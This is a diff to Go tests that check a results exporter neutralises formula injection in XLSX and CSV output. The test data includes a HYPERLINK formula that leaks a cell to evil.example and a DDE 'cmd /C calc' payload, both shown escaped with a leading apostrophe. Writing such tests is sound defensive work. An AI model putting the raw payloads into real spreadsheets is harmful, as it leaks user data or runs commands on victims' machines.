@@ -87,15 +87,16 @@ func TestResultsFormulaInjectionXLSX(t *testing.T) {
 			}
 		}
 	}
-	for i, want := range map[int]string{
-		1: `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
-		2: "'+1-1",
-		3: "'@SUM(A1)",
-		4: "'-2+3",
-		5: "'\tTAB",
-		7: "' =1+1",
-		8: "'\n=1+1",
+	for name, want := range map[string]string{
+		"first_name":          `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
+		"last_name":           "'+1-1",
+		"email":               "'@SUM(A1)",
+		"notes":               "'-2+3",
+		"'=cmd|' /C calc'!A0": "'\tTAB",
+		"city":                "' =1+1",
+		"state_province":      "'\n=1+1",
 	} {
+		i := colIndex(t, header, name, 0)
 		if row[i] != want {
 			t.Errorf("Results %s = %q, want %q", header[i], row[i], want)
 		}
@@ -104,10 +105,7 @@ func TestResultsFormulaInjectionXLSX(t *testing.T) {
 			t.Errorf("Results %s has type %v, want a string", header[i], typ)
 		}
 	}
-	if header[5] != "'=cmd|' /C calc'!A0" {
-		t.Errorf("header %q not made inert", header[5])
-	}
-	if e := row[colIndex(t, header, "error", 7)]; e != "'=1+2 amount must be positive" {
+	if e := row[colIndex(t, header, "error", 0)]; e != "'=1+2 amount must be positive" {
 		t.Errorf("error = %q", e)
 	}
 	// Negative amounts are numbers, not neutralised text.
@@ -131,24 +129,22 @@ func TestResultsFormulaInjectionCSV(t *testing.T) {
 	}
 	recs := readCSV(t, path)
 	header, row := recs[0], recs[1]
-	for i, want := range map[int]string{
-		1: `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
-		2: "'+1-1",
-		3: "'@SUM(A1)",
-		4: "'-2+3",
-		5: "'\tTAB",
-		6: "-5.00", // the amount column is numeric: a number stays a number
-		7: "' =1+1",
-		8: "'\n=1+1",
+	for name, want := range map[string]string{
+		"first_name":          `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
+		"last_name":           "'+1-1",
+		"email":               "'@SUM(A1)",
+		"notes":               "'-2+3",
+		"'=cmd|' /C calc'!A0": "'\tTAB",
+		"amount":              "-5.00", // the amount column is numeric: a number stays a number
+		"city":                "' =1+1",
+		"state_province":      "'\n=1+1",
 	} {
+		i := colIndex(t, header, name, 0)
 		if row[i] != want {
 			t.Errorf("CSV %s = %q, want %q", header[i], row[i], want)
 		}
 	}
-	if header[5] != "'=cmd|' /C calc'!A0" {
-		t.Errorf("header %q not made inert", header[5])
-	}
-	if got := row[colIndex(t, header, "fee", 7)]; got != "-1.50" {
+	if got := row[colIndex(t, header, "fee", 0)]; got != "-1.50" {
 		t.Errorf("fee = %q, want -1.50", got)
 	}
 	// No cell of either file starts with a formula character.
